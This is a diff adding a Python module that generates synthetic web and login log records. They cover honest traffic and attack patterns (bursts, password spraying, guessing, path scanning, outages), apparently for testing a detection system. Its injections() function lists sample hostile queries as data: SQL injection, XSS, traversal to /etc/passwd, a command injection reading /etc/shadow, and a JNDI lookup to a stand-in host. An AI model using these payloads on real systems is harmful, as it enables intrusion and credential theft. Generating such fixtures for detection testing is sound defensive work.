@@ -1,0 +1,186 @@
+"""Made traffic: an honest hour and attacks, as records of logstores. Same seed, same records."""
+
+import random
+from collections.abc import Iterable, Iterator
+from typing import Any
+
+Record = dict[str, Any]
+
+HOUR = 1_763_805_600.0  # 2025-11-22 10:00:00 UTC, the start of a block of every length used
+HOST = "chat.example"
+COUNTRIES = ("DE", "US", "FR", "GB", "NL", "JP", "IN", "SG")
+BROWSERS = tuple(f"Mozilla/5.0 (X11; Linux x86_64) Chrome/{n}.0" for n in range(110, 130))
+PAGES = ("/", "/chat", "/docs", "/pricing", "/blog/select-a-model", "/account", "/search")
+ASSETS = tuple(f"/static/{name}.{kind}" for name in "abcdefghijklm" for kind in ("js", "css", "png", "woff2"))
+SEARCHES = ("q=select+a+union+rep", "q=it%27s+and+that%27s+all", "q=a+%3C+b", "q=drop+table+lamp", "page=2&sort=date")
+
+
+def access(time: float, client: str, path: str, **more: Any) -> Record:
+    """One access record."""
+    return {
+        "logstore": "access",
+        "time": round(time, 6),
+        "client_address": client,
+        "client_country": "DE",
+        "http_request_method": "GET",
+        "server_address": HOST,
+        "url_path": path,
+        "http_response_status_code": 200,
+        "user_agent_original": BROWSERS[0],
+    } | more
+
+
+def login(time: float, client: str, user: str, outcome: str, **more: Any) -> Record:
+    """One login record."""
+    return {
+        "logstore": "security",
+        "time": round(time, 6),
+        "client_address": client,
+        "client_country": "DE",
+        "event_action": "login",
+        "event_outcome": outcome,
+        "service_name": "web",
+        "user_name": user,
+    } | more
+
+
+def page_load(dice: random.Random, time: float, client: str, country: str, agent: str) -> Iterator[Record]:
+    """A page with its forty assets within a second and a half, and a few calls of its scripts."""
+    who = {"client_country": country, "user_agent_original": agent}
+    path = dice.choice(PAGES)
+    query = dice.choice(SEARCHES) if path == "/search" else ""
+    status = 500 if dice.random() < 0.002 else 200
+    yield access(time, client, path, url_query=query, http_response_status_code=status, **who)
+    who["http_request_referer"] = f"https://{HOST}{path}"
+    for asset in dice.sample(ASSETS, 40):
+        status = dice.choice((200, 200, 304))
+        yield access(time + dice.uniform(0.1, 1.5), client, asset, http_response_status_code=status, **who)
+    for _ in range(dice.randint(0, 6)):
+        yield access(time + dice.uniform(0.3, 2.0), client, f"/api/v1/{dice.choice('abcd')}", **who)
+
+
+def visit(dice: random.Random, time: float, client: str, country: str) -> Iterator[Record]:
+    """A person: a few pages, and a login with typos for one in four."""
+    agent = dice.choice(BROWSERS)
+    for _ in range(dice.randint(1, 4)):
+        yield from page_load(dice, time, client, country, agent)
+        time += dice.uniform(5, 40)
+    if dice.random() < 0.25:
+        while dice.random() < 0.08:
+            yield login(time, client, f"user{client}", "failure", client_country=country)
+            time += dice.uniform(3, 9)
+        yield login(time, client, f"user{client}", "success", client_country=country)
+
+
+def visits(
+    dice: random.Random, start: float, end: float, rate: float, countries: Iterable[str], net: str
+) -> Iterator[Record]:
+    """People who arrive ``rate`` times a minute, each with an address of its own."""
+    time, names = start, tuple(countries)
+    while (time := time + dice.expovariate(rate / 60)) < end:
+        client = f"{net}.{dice.randint(0, 250)}.{dice.randint(1, 250)}"
+        yield from visit(dice, time, client, dice.choice(names))
+
+
+def office(dice: random.Random, start: float, end: float) -> Iterator[Record]:
+    """Twelve people behind one address."""
+    time = start
+    while (time := time + dice.expovariate(1 / 6)) < end:
+        yield from page_load(dice, time, "198.51.100.10", "DE", dice.choice(BROWSERS[:12]))
+        if dice.random() < 0.05:
+            outcome = "failure" if dice.random() < 0.15 else "success"
+            yield login(time, "198.51.100.10", f"office{dice.randint(1, 12)}", outcome)
+
+
+def programs(dice: random.Random, start: float, end: float) -> Iterator[Record]:
+    """A monitor twice a second, a crawler that meets dead links, a feed reader, and a busy API client."""
+    for n in range(int(end - start)):
+        at = start + n
+        yield access(at, "198.51.100.20", "/healthz", user_agent_original="monitor/1.0")
+        yield access(at + 0.5, "198.51.100.20", "/healthz", user_agent_original="monitor/1.0")
+        if n % 3 == 0:
+            status = 404 if dice.random() < 0.1 else 200
+            path = f"/blog/{dice.randint(1, 4000)}"
+            yield access(at, "66.249.66.1", path, http_response_status_code=status, client_country="US")
+        if n % 600 == 0:
+            yield access(at, "198.51.100.30", "/blog/feed.xml", http_response_status_code=304)
+        if 600 <= n < 900:
+            for k in range(25):
+                yield access(at + k / 25, "198.51.100.40", "/v1/chat/completions", key_hash="k1")
+
+
+def honest(seed: int = 1) -> list[Record]:
+    """An hour of all of that, with a tide, and a flash crowd thirty times the usual from its 40th minute."""
+    dice = random.Random(seed)
+    records: list[Record] = []
+    for quarter, rate in enumerate((3, 5, 6, 4)):
+        start = HOUR + 900 * quarter
+        records += visits(dice, start, start + 900, rate, COUNTRIES, "203.0")
+    records += visits(dice, HOUR + 2400, HOUR + 2700, 4.5 * 30, COUNTRIES, "100.64")
+    records += office(dice, HOUR, HOUR + 3600)
+    records += programs(dice, HOUR, HOUR + 3600)
+    return records
+
+
+def burst(start: float, clients: int = 1, rate: float = 30, seconds: float = 20) -> Iterator[Record]:
+    """``clients`` that each ask for one page ``rate`` times a second; from overload on they get 503."""
+    for client in range(clients):
+        for n in range(int(rate * seconds)):
+            at = start + client * 0.003 + n / rate
+            status = 200 if at - start < 5 else 503
+            yield access(at, f"45.10.0.{client + 1}", "/login", http_response_status_code=status)
+
+
+def spray(start: float, seconds: float = 600, sources: int = 150) -> Iterator[Record]:
+    """One attempt an address, one an account, evenly over the time."""
+    for n in range(sources):
+        client, user = f"45.20.{n // 200}.{n % 200 + 1}", f"victim{n}"
+        yield login(start + seconds * n / sources, client, user, "failure", client_country="US")
+
+
+def guessing(start: float, attempts: int = 60, success: bool = False) -> Iterator[Record]:
+    """One address that tries passwords, two a second, and may find one."""
+    for n in range(attempts):
+        yield login(start + n / 2, "45.30.0.1", ("root", "admin", "test", "git", "www")[n % 5], "failure")
+    if success:
+        yield login(start + attempts / 2, "45.30.0.1", "admin", "success")
+
+
+def siege(start: float, sources: int = 40) -> Iterator[Record]:
+    """Many addresses on one account, a few attempts each."""
+    for n in range(sources * 3):
+        yield login(start + n, f"45.31.0.{n % sources + 1}", "root", "failure")
+
+
+def scan(start: float) -> Iterator[Record]:
+    """A scanner's list, two paths a second."""
+    paths = ("/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin.php", "/backup.zip", "/cgi-bin/x")
+    for n, path in enumerate((*paths, *(f"/old/{n}.html" for n in range(60)))):
+        yield access(start + n / 2, "45.40.0.1", path, http_response_status_code=404, user_agent_original="zgrab/0.x")
+
+
+def injections(start: float) -> Iterator[Record]:
+    """One attempt of each kind."""
+    queries = (
+        "id=1%20UNION%20SELECT%20user,password%20from%20users",
+        "q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "file=..%2f..%2f..%2fetc%2fpasswd",
+        "host=127.0.0.1;cat%20/etc/shadow",
+        "x=%24%7Bjndi:ldap://198.51.100.7/a%7D",
+    )
+    for n, query in enumerate(queries):
+        yield access(start + n, "45.50.0.1", "/search", url_query=query)
+
+
+def outage(start: float, seconds: float = 60) -> Iterator[Record]:
+    """Three in four requests fail."""
+    for n in range(int(seconds * 10)):
+        status = 503 if n % 4 else 200
+        yield access(start + n / 10, f"203.0.113.{n % 100 + 1}", "/buy", http_response_status_code=status)
+
+
+def newcomers(start: float, status: int, seconds: float = 600) -> Iterator[Record]:
+    """Two hundred addresses of a country never seen, all answered with ``status``."""
+    for n in range(int(seconds * 20)):
+        more = {"client_country": "BR", "http_response_status_code": status}
+        yield access(start + n / 20, f"45.60.0.{n % 200 + 1}", "/account", **more)
